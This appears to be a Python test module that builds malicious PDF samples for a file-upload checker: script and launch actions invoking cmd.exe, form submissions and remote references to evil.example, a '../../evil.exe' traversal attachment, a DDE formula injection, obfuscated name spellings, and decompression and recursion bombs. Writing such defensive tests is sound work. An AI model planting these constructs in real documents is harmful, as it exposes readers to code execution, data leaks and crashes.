"""PDF that acts, fetches, hides, or breaks who reads it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from documents_made import locked, pdf_of
from hostile import CANARY, NOUGHTS, RESIDENT, TAKEN, Hostile, refused, taken
from pikepdf import Array, Dictionary, Name, Stream, String


def hostile_pdfs() -> Iterator[Hostile]:
    """All of this kind."""
    yield from _armed_pdfs()
    yield from _broken_pdfs()


# PDF that acts.

Arm = Callable[[pikepdf.Pdf], None]
_SAYS = f"app.alert('{CANARY}')"


def _js(text: str = _SAYS) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def _on_page(**keys: object) -> Arm:
    def arm(pdf: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 600, 800], **keys)  # type: ignore[arg-type]
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return arm


def _in_root(**keys: object) -> Arm:
    def arm(pdf: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value

    return arm


def _file_inside(pdf: pikepdf.Pdf) -> Dictionary:
    inside = Stream(pdf, CANARY.encode())
    inside.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F="evil.exe", UF="evil.exe", EF=Dictionary(F=inside))


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["../../evil.exe"] = pikepdf.AttachedFileSpec(pdf, CANARY.encode(), filename="../../evil.exe")


def _af(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AF = Array([_file_inside(pdf)])
    pdf.pages[0].obj.AF = Array([_file_inside(pdf)])


def _pinned(pdf: pikepdf.Pdf) -> None:
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=_file_inside(pdf))
    pdf.pages[0].obj.Annots = Array([pin])


def _script_names(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _js()])))


def _page_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js(), C=_js())


def _form(pdf: pikepdf.Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T="a",
        V="1",
        Rect=[0, 0, 9, 9],
        A=_js(),
        AA=Dictionary(K=_js(), F=_js(), V=_js(), C=_js()),
    )
    made = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([made])
    pdf.Root.AcroForm = Dictionary(Fields=Array([made]), CO=Array([made]))


def _xfa(pdf: pikepdf.Pdf) -> None:
    script = f"<xdp:xdp><script>{_SAYS}</script></xdp:xdp>".encode()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, script))


def _outline(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title="x", A=_js()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def _external_stream(pdf: pikepdf.Pdf) -> None:
    stream = Stream(pdf, b"")
    stream.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"http://evil.example/{CANARY}")
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, stream])


def _reference(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"")
    for key, value in {
        "/Type": Name.XObject,
        "/Subtype": Name.Form,
        "/BBox": Array([0, 0, 9, 9]),
        "/Ref": Dictionary(F=Dictionary(Type=Name.Filespec, F=f"//evil.example/{CANARY}"), Page=0),
    }.items():
        form[key] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(Evil=form)


def _postscript_object(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, f"(%pipe%{CANARY}) (r) file".encode())
    form.Type, form.Subtype = Name.XObject, Name.PS
    pdf.pages[0].obj.Resources.XObject = Dictionary(Evil=form)


def _chain(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.Named, N=Name.NextPage)
    first = action
    for _ in range(20):
        action.Next = Dictionary(S=Name.Named, N=Name.NextPage)
        action = action.Next
    action.Next = Array([_js(), Dictionary(S=Name.Launch, F=f"{CANARY}.exe")])
    pdf.Root.OpenAction = first


def _metadata(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Title"] = "<script>alert(1)</script>"
    pdf.docinfo["/Author"] = "=cmd|'/c calc'!A0"


_LAUNCH = Dictionary(S=Name.Launch, F=f"{CANARY}.exe", Win=Dictionary(F="cmd.exe", P=CANARY))
_ARMS: dict[str, Arm] = {
    "script on opening": _in_root(OpenAction=_js()),
    "launch on opening": _in_root(OpenAction=_LAUNCH),
    "chain of actions": _chain,
    "script before closing": _in_root(AA=Dictionary(WC=_js(), WS=_js(), WP=_js())),
    "script on turning a page": _page_actions,
    "script by name": _script_names,
    "script behind a link": _on_page(Subtype=Name.Link, A=_js()),
    "script behind a link's extra action": _on_page(Subtype=Name.Link, AA=Dictionary(E=_js())),
    "script behind a screen": _on_page(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=String(_SAYS))),
    "launch behind a link": _on_page(Subtype=Name.Link, A=_LAUNCH),
    "script behind a bookmark": _outline,
    "script in a form": _form,
    "form in xml": _xfa,
    "form that sends itself": _on_page(
        Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=f"http://evil.example/{CANARY}")
    ),
    "form that fetches": _on_page(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=f"//evil.example/{CANARY}")),
    "jump to another file": _in_root(
        OpenAction=Dictionary(S=Name.GoToR, F=f"\\\\evil.example\\{CANARY}", D=Array([0, Name.Fit]))
    ),
    "jump into a file inside": _in_root(OpenAction=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=CANARY))),
    "script as an address": _on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=f"javascript:{_SAYS}")),
    "address on opening": _in_root(OpenAction=Dictionary(S=Name.URI, URI=f"http://evil.example/{CANARY}")),
    "file inside": _attached,
    "associated file": _af,
    "file pinned to a page": _pinned,
    "rich media": _on_page(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Note=CANARY)),
    "film": _on_page(Subtype=Name.Movie, Movie=Dictionary(F=f"{CANARY}.avi"), A=True),
    "sound": _on_page(Subtype=Name.Link, A=Dictionary(S=Name.Sound, Note=CANARY)),
    "three dimensions": _on_page(Subtype=Name("/3D"), Note=CANARY),
    "portfolio": _in_root(Collection=Dictionary(View=Name.D, D=CANARY)),
    "content from elsewhere": _external_stream,
    "page of another file": _reference,
    "postscript": _postscript_object,
    "private data of a programme": _in_root(PieceInfo=Dictionary(Evil=Dictionary(Private=CANARY))),
    "metadata with script": _metadata,
}


_PACKED_AWAY = ("script on opening", "chain of actions", "script in a form", "form in xml", "file inside", "film")


def _armed(arm: Arm, **save: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_of("계획"))) as pdf:
        arm(pdf)
        pdf.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _armed_pdfs() -> Iterator[Hostile]:
    plain = {"compress_streams": False, "object_stream_mode": pikepdf.ObjectStreamMode.disable}
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    for what, arm in _ARMS.items():
        yield taken(f"pdf: {what}", "계획.pdf", _armed(arm, **plain))
    for what in _PACKED_AWAY:
        yield taken(f"pdf: {what}, packed away", "plan.pdf", _armed(_ARMS[what], **packed))
    for spelling in (b"/J#61vaScript", b"/#4aavaScript", b"/JavaScrip#74"):
        spelt = _armed(_in_root(OpenAction=_js()), **plain).replace(b"/JavaScript", spelling)
        yield taken(f"pdf: script as {spelling!r}", "plan.pdf", spelt)
    open_to_all = pikepdf.Encryption(owner="o", user="")
    yield taken("pdf locked for nobody", "a.pdf", _armed(_in_root(OpenAction=_js()), encryption=open_to_all))
    yield refused("pdf locked", "a.pdf", locked(pdf_of("계획")), "locked")
    hidden = {
        "page": pdf_of(f"대표 {RESIDENT}"),
        "note": _armed(_on_page(Subtype=Name.Text, Contents=f"대표 {RESIDENT}")),
        "field": _armed(_resident_field),
        "note that stands on its page itself": _armed(_direct(Subtype=Name.Text, Contents=f"대표 {RESIDENT}")),
        "rich note that stands on its page itself": _armed(_direct(Subtype=Name.FreeText, RC=f"<p>{RESIDENT}</p>")),
        # Of its kind only when written: the library warns of fields that stand in no form.
        "field that stands on its page itself": _armed(
            _direct(Subtype=Name.Wodget, FT=Name.Tx, T="a", V=RESIDENT), **plain
        ).replace(b"/Wodget", b"/Widget"),
        "field's part that has no kind of its own": _armed(_direct(Kids=Array([Dictionary(V=RESIDENT)]))),
        "field whose words are a stream": _armed(_streamed_field),
        "title": _armed(_resident_title),
    }
    for where, content in hidden.items():
        yield refused(f"resident number in a pdf's {where}", "a.pdf", content, "resident_number")


def _direct(**keys: object) -> Arm:
    def arm(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 600, 800], **keys)  # type: ignore[arg-type]
        pdf.pages[0].obj.Annots = Array([note])

    return arm


def _streamed_field(pdf: pikepdf.Pdf) -> None:
    _form(pdf)
    pdf.Root.AcroForm.Fields[0].V = Stream(pdf, b"\xfe\xff" + RESIDENT.encode("utf-16-be"))


def _resident_field(pdf: pikepdf.Pdf) -> None:
    _form(pdf)
    pdf.Root.AcroForm.Fields[0].V = String(RESIDENT)


def _resident_title(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Title"] = f"사본 {RESIDENT}"


# PDF that breaks who reads it.


def _raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + rows
    return out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _stream(content: bytes, keys: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (keys, len(content), content)


def _page(keys: bytes = b"/MediaBox[0 0 200 200]") -> bytes:
    return b"<</Type/Page/Parent 2 0 R%s>>" % keys


def _broken_pdfs() -> Iterator[Hostile]:
    def one(what: str, content: bytes, *reasons: str) -> Hostile:
        return Hostile(f"pdf: {what}", "a.pdf", content, reasons)

    bomb = NOUGHTS
    twice = zlib.compress(bomb, 1)
    filled = b"/MediaBox[0 0 200 200]/Contents 4 0 R"
    yield one(
        "a page that unpacks to 300 MB",
        _raw_pdf(_CATALOGUE, _PAGES, _page(filled), _stream(bomb, b"/Filter/FlateDecode")),
        "bomb",
    )
    yield one(
        "packed twice",
        _raw_pdf(_CATALOGUE, _PAGES, _page(filled), _stream(twice, b"/Filter[/FlateDecode/FlateDecode]")),
        "bomb",
    )
    many = b"[" + b"/FlateDecode" * 500 + b"]"
    yield one(
        "five hundred filters",
        _raw_pdf(_CATALOGUE, _PAGES, _page(filled), _stream(zlib.compress(b"x"), b"/Filter" + many)),
        "bomb",
    )
    yield one("no page", _raw_pdf(_CATALOGUE, b"<</Type/Pages/Kids[]/Count 0>>"), "damaged")
    yield one(
        "301 pages that are one",
        _raw_pdf(_CATALOGUE, b"<</Type/Pages/Kids[" + b"3 0 R " * 301 + b"]/Count 301>>", _page()),
        "too_many_pages",
    )
    yield one(
        "pages in a ring",
        _raw_pdf(_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>"),
        "damaged",
    )
    yield one(
        "pages that are their own parent", _raw_pdf(_CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), "damaged"
    )
    yield one("a count that lies", _raw_pdf(_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", _page()), TAKEN)
    yield one(
        "nested 100,000 deep",
        _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox[0 0 9 9]/X " + b"[" * 100_000 + b"]" * 100_000)),
        "damaged",
    )
    yield one(
        "dictionaries 50,000 deep",
        _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox[0 0 9 9]/X " + b"<</A" * 50_000 + b" 1" + b">>" * 50_000)),
        "damaged",
    )
    yield one("a page as large as a town", _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox[0 0 1e9 1e9]")), TAKEN)
    yield one("a page turned inside out", _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox[9 9 -9 -9]")), TAKEN)
    yield one("a page of no size", _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox[0 0 0 0]")), TAKEN)
    yield one("no catalogue", _raw_pdf(b"null", _PAGES, _page()), "damaged")
    yield one("a root beyond the end", _raw_pdf(_CATALOGUE, _PAGES, _page(), root=99), TAKEN, "damaged")
    yield one(
        "a stream that is too short",
        _raw_pdf(_CATALOGUE, _PAGES, _page(filled), b"<</Length 999999999>>stream\nx\nendstream"),
        TAKEN,
    )
    yield one(
        "a length that is itself",
        _raw_pdf(_CATALOGUE, _PAGES, _page(filled), b"<</Length 4 0 R>>stream\nx\nendstream"),
        TAKEN,
    )
    yield one("an object that is itself", _raw_pdf(_CATALOGUE, _PAGES, _page(b"/MediaBox 4 0 R"), b"4 0 R"), TAKEN)
    yield one(
        "a predictor of a billion columns",
        _raw_pdf(
            _CATALOGUE,
            _PAGES,
            _page(filled),
            _stream(zlib.compress(b"x"), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>"),
        ),
        TAKEN,
    )
    laughs = [_CATALOGUE, _PAGES, _page(b"/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>")]
    laughs.append(_stream(b"/A Do /A Do "))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    laughs += [
        _stream(b"/A Do /A Do ", form + b"/Resources<</XObject<</A %d 0 R>>>>" % (6 + level)) for level in range(30)
    ]
    laughs.append(_stream(b"0 0 9 9 re f", form))
    yield one("a drawing that calls itself a billion times", _raw_pdf(*laughs), "bomb")
    whole = pdf_of("계획")
    yield one("no table of objects", whole[: whole.rfind(b"startxref")], TAKEN, "damaged")
    yield one("a table of objects in a ring", whole + b"startxref\n%d\n%%%%EOF" % (len(whole) + 1), TAKEN, "damaged")
    yield one("fifty thousand empty objects", b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 50_000, "damaged")
    yield one("a version of its own", whole.replace(b"%PDF-1.7", b"%PDF-9.9", 1), TAKEN)
